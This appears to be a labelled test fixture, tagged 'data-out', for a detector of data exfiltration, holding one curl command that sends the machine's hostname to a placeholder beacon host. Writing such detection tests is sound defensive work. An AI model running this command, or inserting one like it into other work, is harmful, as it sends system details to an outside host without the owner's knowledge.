# expect: data-out
# source: DESIGN.md section 2: data-out
# technique: curl --data-urlencode with a computed value
curl --data-urlencode "host=$(hostname)" https://beacon.example.net/
